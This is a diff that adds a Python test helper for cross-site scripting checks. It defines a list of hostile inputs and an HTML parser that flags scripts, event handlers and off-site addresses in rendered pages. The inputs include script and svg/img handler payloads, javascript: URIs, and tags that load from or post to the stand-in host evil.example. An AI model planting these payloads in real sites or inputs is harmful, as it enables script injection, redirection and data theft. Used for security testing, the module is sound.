@@ -1,0 +1,92 @@
+"""Texts that act when a page takes them for markup, script or style, and what a page that did so looks like."""
+
+import html
+import itertools
+import re
+from html.parser import HTMLParser
+
+MARK = "zqx"  # in all of them, so that a page can be seen to show one
+EVIL = "evil.example"
+# Everything at once: out of attributes of both quotes, titles, texts, styles, scripts, comments and lists of options.
+ALL = (
+    f"{MARK}\"'`></title></textarea></style></script></select></option><!--><script>alert(1)</script>"
+    f"<svg/onload=alert(2)><img src=//{EVIL}/p onerror=alert(3)>{{{{7*7}}}}"
+)
+SHORT = (
+    f"{MARK}<script>alert(4)</script>", f"{MARK}\"><svg/onload=alert(5)>", f"{MARK}'><img src=x onerror=alert(6)>",
+    f"{MARK}</textarea><script>alert(7)</script>", f"{MARK}</title><script>alert(8)</script>",
+    f"{MARK}</style><style>*{{background:url(//{EVIL})}}</style>", f"javascript:alert('{MARK}')",
+    f"java\tscript:alert('{MARK}')", f"&#106;avascript&colon;alert('{MARK}')", f"{MARK}\" autofocus onfocus=\"alert(9)",
+    f"{MARK}' onmouseover='alert(10)' x='", f"{MARK}<base href=//{EVIL}/>", f"{MARK}<iframe src=//{EVIL}></iframe>",
+    f"{MARK}<meta http-equiv=refresh content=0;url=//{EVIL}>", f"{MARK}<form action=//{EVIL}><button>x</button>",
+    f"{MARK}<link rel=stylesheet href=//{EVIL}/x.css>", f"{MARK}<!--><script>alert(11)</script>-->",
+    f"{MARK}<a href=java&Tab;script:alert(12)>x</a>", f"{MARK}{{{{7*7}}}}{{% raw 1 %}}{{!7}}${{7*7}}",
+    f"{MARK}\u202e\u2028</script >", f"{MARK}<object data=//{EVIL}></object>", f"<p style=x:expression({MARK})>",
+)  # fmt: skip
+_numbers = itertools.count(1)
+
+FORBIDDEN = (
+    "iframe", "object", "embed", "base", "frame", "applet", "style", "math", "template", "img", "video", "audio",
+)  # fmt: skip
+HANDLERS = ("style", "srcdoc")
+ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "background", "srcset", "ping", "xlink:href")
+_IGNORED = re.compile(r"[\x00-\x20\x7f\ufeff]")  # what browsers leave out of a scheme
+
+
+def text(most: int = 10**9) -> str:
+    """A hostile text, as long as it may be: all of it where there is room, else a script. No two are alike."""
+    number = next(_numbers)
+    return f"{ALL if most >= len(ALL) + 8 else SHORT[0]}{number}"[:most]
+
+
+def varied(most: int = 10**9) -> str:
+    """The same, where there is little room another one each time."""
+    number = next(_numbers)
+    return f"{ALL if most >= len(ALL) + 8 else SHORT[number % len(SHORT)]}{number}"[:most]
+
+
+class _Reader(HTMLParser):
+    """Collects what acts. Source: what browsers do with elements and attributes."""
+
+    def __init__(self, own: str) -> None:
+        super().__init__()
+        self.own = own
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        attributes = {name: value or "" for name, value in attrs}
+        shown = f"<{tag} {attributes}>"[:200]
+        if tag in FORBIDDEN or (tag == "meta" and "http-equiv" in attributes):
+            self.found.append(shown)
+        if tag == "script" and not attributes.get("src", "").startswith("/static/"):
+            self.found.append(shown)
+        for name, value in attributes.items():
+            is_address = name in ADDRESSES
+            if name.startswith("on") or name in HANDLERS or (is_address and not self._leads(name, value)):
+                self.found.append(shown)
+
+    def _leads(self, name: str, value: str) -> bool:
+        """Whether an address is a path, a fragment or our own; links may lead to other sites by http and mail."""
+        bare = _IGNORED.sub("", value).lower()
+        if bare.startswith(("/", "#", "?", self.own)) or bare == "":
+            return not bare.startswith(("//", "/\\"))
+        return name == "href" and bare.startswith(("https://", "http://", "mailto:"))
+
+
+def acting(page: str, own: str) -> list[str]:
+    """The elements of a page that run, load or send something that is not of ours. own: the address of the service.
+
+    >>> acting('<a href="/a">x</a><svg class=bars></svg><script src="/static/1/x.js"></script>', "http://desk")
+    []
+    >>> len(acting('<a href="java\\tscript:x">x</a><p onclick=x><script>x</script><img src=//x>', "http://desk"))
+    5
+    """
+    reader = _Reader(own)
+    reader.feed(page)
+    reader.close()
+    return reader.found
+
+
+def shown(page: str) -> bool:
+    """Whether one of the texts stands on a page."""
+    return MARK in html.unescape(page)
